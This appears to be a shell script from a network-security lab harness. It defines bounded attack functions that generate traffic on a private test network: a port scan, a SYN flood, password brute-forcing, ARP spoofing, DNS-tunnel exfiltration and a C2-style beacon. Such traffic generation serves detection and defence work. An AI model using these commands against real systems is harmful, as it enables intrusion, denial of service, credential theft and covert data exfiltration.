# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
# attacks.sh - one function an attack, read with `.` by day.sh; each is bounded in count and time, and returns 77 where its tool is not
# there. $long is "yes" in the long scenes.
by_length() { if [ "$long" = yes ]; then echo "$2"; else echo "$1"; fi; } # by_length SHORT LONG
has() { command -v "$1" >/dev/null 2>&1; }

# Who probes a server's ports.
scan() {
    has nmap || return 77
    on atk timeout 30 nmap -n -sS -T4 --max-retries 1 --max-rate 300 -p "1-$(by_length 400 1000)" 10.77.0.10
}

# Half-open connections, from its own address.
flood() {
    has hping3 || return 77
    on atk timeout 15 hping3 -q -S -p 80 -i u1000 -c "$(by_length 1500 3000)" 10.77.0.10
}

# Passwords tried at the part of the web server that asks for one; its name is looked up once, as crackers do.
brute() {
    has curl || return 77
    local i
    for i in $(seq "$(by_length 40 150)"); do
        on atk timeout 5 curl -s -o /dev/null --resolve www.plant.test:80:10.77.0.10 -u "admin:secret$i" http://www.plant.test/admin/0
    done
}

# Who comes between c1 and the server by false ARP answers, and passes on what they say.
spoof() {
    has arpspoof || return 77
    on atk sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
    on atk timeout -s INT "$(by_length 6 40)" arpspoof -i eth0 -t 10.77.0.21 -r 10.77.0.10
    on atk sysctl -qw net.ipv4.ip_forward=0
    return 0
}

# A file in the names that are asked for, a piece at a time.
exfil() {
    on c2 timeout 590 "$python" - "$(by_length 24 60)" "$(by_length 0.8 8)" <<'PY'
import base64, os, random, socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(1)
for i in range(int(sys.argv[1])):
    piece = base64.b32encode(os.urandom(30)).rstrip(b'=').lower()
    name = b''.join(bytes([len(x)]) + x for x in (b'%04x' % i, piece, b't', b'quay', b'test', b''))
    s.sendto(struct.pack('>6H', random.getrandbits(16), 0x100, 1, 0, 0, 0) + name + struct.pack('>2H', 16, 1), ('10.77.0.53', 53))
    try:
        s.recv(2048)
    except socket.timeout:
        pass
    time.sleep(float(sys.argv[2]) * random.uniform(0.8, 1.2))
PY
}

# What asks a server outside, again and again, whether there is something to do.
beacon() {
    has curl || return 77
    local i
    for i in $(seq "$(by_length 15 60)"); do
        on c3 timeout 5 curl -s -o /dev/null -A 'Mozilla/5.0' "http://sync.harbour.test/check?id=7f3a"
        sleep "$(by_length 1.$((RANDOM % 5)) 7.$((RANDOM % 9)))"
    done
}
